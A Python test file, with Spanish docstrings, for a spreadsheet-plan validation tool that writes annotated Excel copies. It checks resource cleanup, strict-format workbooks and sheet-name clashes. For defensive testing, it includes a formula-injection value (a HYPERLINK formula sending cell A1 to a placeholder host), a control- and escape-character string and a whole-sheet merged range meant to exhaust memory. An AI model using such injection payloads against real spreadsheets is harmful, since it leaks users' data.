"""Robustez II (§8): copias anotadas que no pierden nada ni dejan basura, y lo que cuenta
como plan es lo mismo en `pea validar` y en `pea consolidar`."""

from __future__ import annotations

import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

from pea.demo import demo_plans
from pea.demo.mutate import apply_changes
from pea.demo.writer import write_plan_xlsx
from tests.test_consolidar_anotar import make_xlsm


def _xlsm_with_errors(tmp_path: Path, folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    plain = write_plan_xlsx(demo_plans()[1], tmp_path / "tesoreria.xlsx", variant="fraccion")
    apply_changes(plain, {"celdas": {"M10": 0.4, "N10": 0.3, "O10": 0.2, "P10": 0}})
    return make_xlsm(plain, folder / "tesoreria.xlsm")


def test_anotar_xlsm_no_deja_zip_abierto(tmp_path: Path) -> None:
    """openpyxl guarda las macros en un zip en memoria que nunca cierra: al terminar el
    proceso (con el recolector ajustado del consolidador, o en Windows, donde los procesos
    de trabajo terminan normalmente) salían trazas «Exception ignored … ZipFile.__del__»."""
    src = _xlsm_with_errors(tmp_path, tmp_path / "entregas")
    script = textwrap.dedent(f"""
        from pathlib import Path
        from pea.config import load_config
        from pea.consolidate import gctune
        from pea.consolidate.annotate import annotate_copy
        from pea.validation import validate_file
        gctune.tune()
        _, report = validate_file(Path({str(src)!r}), load_config())
        annotate_copy(Path({str(src)!r}), Path({str(tmp_path / 'copia.xlsm')!r}), report, "v")
        print("listo")
    """)
    proc = subprocess.run([sys.executable, "-W", "error::ResourceWarning", "-c", script],
                          capture_output=True, text=True, timeout=120, check=False)
    assert proc.returncode == 0, proc.stderr
    assert "listo" in proc.stdout
    assert "Exception ignored" not in proc.stderr, proc.stderr
    assert "Traceback" not in proc.stderr, proc.stderr
    assert (tmp_path / "copia.xlsm").is_file()


def _strict_with_errors(tmp_path: Path, folder: Path) -> Path:
    from tests.hostile.strict import to_strict

    folder.mkdir(parents=True, exist_ok=True)
    plain = write_plan_xlsx(demo_plans()[1], tmp_path / "t.xlsx", variant="fraccion")
    apply_changes(plain, {"celdas": {"M10": 0.4, "N10": 0.3, "O10": 0.2, "P10": 0}})
    return to_strict(plain, folder / "tesoreria_estricto.xlsx")


def test_libro_strict_anotado_conserva_el_plan(tmp_path: Path) -> None:
    """Un libro OOXML estricto (Excel: «Libro de Excel Open XML estricto») daba una copia
    con solo la hoja «Validación»: openpyxl no entiende sus espacios de nombres."""
    from openpyxl import load_workbook

    from tests.test_consolidar import pea

    src = _strict_with_errors(tmp_path, tmp_path / "entregas")
    with zipfile.ZipFile(src) as z:
        assert b"purl.oclc.org/ooxml/spreadsheetml/main" in z.read("xl/workbook.xml")
    before = src.read_bytes()
    out = tmp_path / "revisados"
    proc = pea("consolidar", str(src.parent), "--salida", str(tmp_path / "m.xlsx"),
               "--anotar", str(out), "-q")
    assert proc.returncode == 0, proc.stderr
    assert src.read_bytes() == before
    (copy,) = out.iterdir()
    wb = load_workbook(copy)
    assert wb.sheetnames == ["PEA", "Validación"]
    assert wb["PEA"].max_row >= 10
    assert "PEA-Q03" in wb["PEA"]["M10"].comment.text
    # la copia se lee como plan, con las mismas líneas que el original
    from pea.config import load_config
    from pea.validation import validate_file

    _p, original = validate_file(src, load_config())
    _p, again = validate_file(copy, load_config())
    assert again.hoja == "PEA" and again.dependencia == original.dependencia
    assert [f.regla for f in again.hallazgos] == [f.regla for f in original.hallazgos]


def test_copia_que_perderia_el_plan_no_se_escribe(tmp_path: Path, monkeypatch) -> None:
    """Si al guardar la copia se pierde la hoja del plan (un formato que openpyxl no
    reproduce), no se escribe: un aviso en español lo dice."""
    from pea.config import load_config
    from pea.consolidate import annotate
    from pea.validation import validate_file

    src = _strict_with_errors(tmp_path, tmp_path / "entregas")
    _p, report = validate_file(src, load_config())
    monkeypatch.setattr(annotate, "transitional", lambda data: None)  # sin traducción
    dst = tmp_path / "copia.xlsx"
    kind, text = annotate.annotate_task((str(src), str(dst), report, "v"))
    assert kind == "aviso"
    assert "No se escribió la copia anotada" in text and "«PEA»" in text
    assert not dst.exists()
    assert list(tmp_path.glob(".~pea*")) == []


def _plan_in_sheet(tmp_path: Path, title: str, extra: dict[str, list[list[str]]] | None = None,
                   name: str = "plan.xlsx") -> Path:
    from openpyxl import load_workbook

    plain = write_plan_xlsx(demo_plans()[1], tmp_path / "base.xlsx", variant="fraccion")
    apply_changes(plain, {"celdas": {"M10": 0.4, "N10": 0.3, "O10": 0.2, "P10": 0}})
    wb = load_workbook(plain)
    wb["PEA"].title = title
    for sheet, rows in (extra or {}).items():
        ws = wb.create_sheet(sheet)
        for row in rows:
            ws.append(row)
    target = tmp_path / "entregas" / name
    target.parent.mkdir(exist_ok=True)
    wb.save(target)
    return target


def test_hoja_del_plan_llamada_validacion(tmp_path: Path) -> None:
    """Una hoja del plan llamada «Validación» recibía PEA-E01 («no se encontró el
    encabezado») y su copia anotada la borraba para poner el reporte en su lugar."""
    from openpyxl import load_workbook

    from pea.config import load_config
    from pea.consolidate.annotate import annotate_copy
    from pea.validation import validate_file

    src = _plan_in_sheet(tmp_path, "Validación")
    _p, report = validate_file(src, load_config())
    assert report.hoja == "Validación"
    assert [f.regla for f in report.hallazgos] == ["PEA-Q03"]
    copy = annotate_copy(src, tmp_path / "copia.xlsx", report, "v")
    wb = load_workbook(copy)
    assert wb.sheetnames == ["Validación", "Validación PEA"]
    assert wb["Validación"].max_row == load_workbook(src)["Validación"].max_row
    assert "PEA-Q03" in wb["Validación"]["M10"].comment.text
    links = [c.hyperlink.location for r in wb["Validación PEA"].iter_rows() for c in r
             if c.hyperlink]
    assert links == ["'Validación'!M10"]
    # la copia se lee con su plan (no con el reporte) y, anotada otra vez, su reporte
    # anterior se reemplaza en su lugar: no se acumulan hojas
    _p, again = validate_file(copy, load_config())
    assert again.hoja == "Validación" and again.copia_anotada is not None
    twice = annotate_copy(copy, tmp_path / "copia2.xlsx", again, "v")
    assert load_workbook(twice).sheetnames == ["Validación", "Validación PEA"]


def test_hoja_validacion_de_la_dependencia_se_conserva(tmp_path: Path) -> None:
    """Una hoja «validación» propia de la dependencia (notas, visto bueno) no se borra:
    el reporte de PEA va en otra hoja (Excel no distingue mayúsculas en los nombres)."""
    from openpyxl import load_workbook

    from pea.config import load_config
    from pea.consolidate.annotate import annotate_copy
    from pea.validation import validate_file

    notes = [["Visto bueno del director"], ["Firmado: Lic. Pérez"]]
    src = _plan_in_sheet(tmp_path, "PEA", {"validación": notes})
    _p, report = validate_file(src, load_config())
    assert report.hoja == "PEA"
    wb = load_workbook(annotate_copy(src, tmp_path / "copia.xlsx", report, "v"))
    assert wb.sheetnames == ["PEA", "validación", "Validación PEA"]
    assert [[c.value for c in r] for r in wb["validación"].iter_rows()] == notes


def test_reporte_sin_formulas_ni_controles(tmp_path: Path) -> None:
    """En la hoja «Validación» de la copia nada se vuelve fórmula ni vínculo (openpyxl toma
    por fórmula todo texto que empieza con «=») y un carácter de control no impide escribir
    la copia."""
    from openpyxl import load_workbook

    from pea.config import load_config
    from pea.consolidate.annotate import annotate_copy
    from pea.validation import validate_file

    src = _plan_in_sheet(tmp_path, "Plan d'Obras")
    _p, report = validate_file(src, load_config())
    evil = '=HYPERLINK("http://ejemplo.invalid/?"&A1,"clic")'
    report.hallazgos[0].mensaje = evil
    report.hallazgos.append(report.hallazgos[0].model_copy(update={"mensaje": "+1\x01\x1b[2J",
                                                                    "celda": "N10"}))
    copy = annotate_copy(src, tmp_path / "copia.xlsx", report, "v")
    with zipfile.ZipFile(copy) as z:
        names = z.namelist()
        sheets = [z.read(n) for n in names if n.startswith("xl/worksheets/sheet")]
    assert all(b"<f>" not in x and b"<f " not in x for x in sheets)
    wb = load_workbook(copy)
    ws = wb["Validación"]
    values = [c.value for r in ws.iter_rows() for c in r]
    assert evil in values
    assert "+1\\x01\\x1b[2J" in values
    links = [c.hyperlink.location for r in ws.iter_rows() for c in r if c.hyperlink]
    assert links[0] == "'Plan d''Obras'!M10"
    assert "\\x01" in wb["Plan d'Obras"]["N10"].comment.text


def _with_merged(src: Path, dst: Path, refs: list[str]) -> Path:
    """`src` con sus combinadas reemplazadas por `refs` (en el XML de la hoja del plan)."""
    import re

    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            body = zin.read(info.filename)
            if info.filename.startswith("xl/worksheets/") and b"<mergeCells" in body:
                cells = "".join(f'<mergeCell ref="{r}"/>' for r in refs)
                body = re.sub(rb"<mergeCells[^>]*>.*?</mergeCells>",
                              f'<mergeCells count="{len(refs)}">{cells}</mergeCells>'.encode(),
                              body, flags=re.S)
            zout.writestr(info, body)
    return dst


def test_combinada_sobre_toda_la_hoja_no_se_anota(tmp_path: Path) -> None:
    """Antes: openpyxl creaba una celda por cada una que cubre el rango (A1:XFD1048576 son
    17 mil millones); la copia agotaba su tiempo a los 60 s con 4 GB. Ahora se cuentan en el
    XML antes de abrirlo y se avisa en español, sin copia."""
    from pea.consolidate.annotate_limits import MAX_MERGED_CELLS, merged_cells

    folder = tmp_path / "entregas"
    folder.mkdir()
    plain = write_plan_xlsx(demo_plans()[1], tmp_path / "t.xlsx", variant="fraccion")
    apply_changes(plain, {"celdas": {"M10": 0.4, "N10": 0.3, "O10": 0.2, "P10": 0}})
    plan = _with_merged(plain, folder / "toda_la_hoja.xlsx", ["A1:XFD1048576"])
    assert merged_cells(plan.read_bytes()) == (1, 16_384 * 1_048_576)
    assert merged_cells(plain.read_bytes())[1] < MAX_MERGED_CELLS
    proc = subprocess.run([sys.executable, "-m", "pea", "consolidar", str(folder), "--salida",
                           str(tmp_path / "m.xlsx"), "--anotar", str(tmp_path / "anotadas"),
                           "--procesos", "1"],
                          capture_output=True, text=True, timeout=300, check=False)
    assert proc.returncode == 0, proc.stderr
    avisos = [line for line in proc.stderr.splitlines() if "copia anotada" in line]
    assert len(avisos) == 1 and "«toda_la_hoja.xlsx»" in avisos[0], proc.stderr
    assert "combinadas" in avisos[0] and "tiempo agotado" not in avisos[0], avisos
    assert not list((tmp_path / "anotadas").glob("*.xlsx"))


def test_llenar_y_modificar_xlsm_no_dejan_zip_abierto(tmp_path: Path) -> None:
    """`fill_template` y `apply_changes` abrían la plantilla con ``keep_vba`` sin cerrar la
    copia en memoria de las macros: «Exception ignored … ZipFile.__del__» al terminar."""
    template = Path(__file__).resolve().parents[1] / "workbook_template.xlsm"
    filled, changed = tmp_path / "llena.xlsm", tmp_path / "cambiada.xlsm"
    script = textwrap.dedent(f"""
        from pathlib import Path
        from pea.consolidate import gctune
        from pea.demo import demo_plans
        from pea.demo.mutate import apply_changes
        from pea.template.fill import fill_template
        gctune.tune()
        fill_template(Path({str(template)!r}), demo_plans()[1], Path({str(filled)!r}))
        apply_changes(Path({str(filled)!r}), {{"celdas": {{"B3": "x"}}}}, Path({str(changed)!r}))
        print("listo")
    """)
    proc = subprocess.run([sys.executable, "-X", "dev", "-c", script], capture_output=True,
                          text=True, timeout=120, check=False)
    assert proc.returncode == 0, proc.stderr
    assert "listo" in proc.stdout
    assert "Exception ignored" not in proc.stderr, proc.stderr
    assert filled.is_file() and changed.is_file()


def test_textos_largos_de_la_dependencia_caben_en_la_copia(tmp_path: Path) -> None:
    """Un texto de 20,000 emoji son 40,000 unidades UTF-16 (lo que cuenta Excel): la copia
    anotada lo reproducía tal cual (Excel la repara) y el aviso decía «20,000 caracteres»
    de algo que no cabe en 32,767."""
    import re

    folder = tmp_path / "entregas"
    folder.mkdir()
    plan = write_plan_xlsx(demo_plans()[1], folder / "emoji.xlsx", variant="fraccion")
    apply_changes(plan, {"celdas": {"M10": 0.4, "N10": 0.3, "O10": 0.2, "P10": 0,
                                    "S10": "\U0001F600" * 20_000}})
    proc = subprocess.run([sys.executable, "-m", "pea", "consolidar", str(folder), "--salida",
                           str(tmp_path / "m.xlsx"), "--anotar", str(tmp_path / "anotadas"),
                           "--procesos", "1"],
                          capture_output=True, text=True, timeout=300, check=False)
    assert proc.returncode == 0, proc.stderr
    assert "40,000 caracteres" in proc.stderr, proc.stderr
    copies = list((tmp_path / "anotadas").glob("*.xlsx"))
    assert len(copies) == 1, proc.stderr
    with zipfile.ZipFile(copies[0]) as z:
        for name in z.namelist():
            if name.endswith(".xml"):
                for text in re.findall(rb"<t[^>]*>([^<]*)</t>", z.read(name)):
                    assert len(text.decode().encode("utf-16-le")) // 2 <= 32_767, name
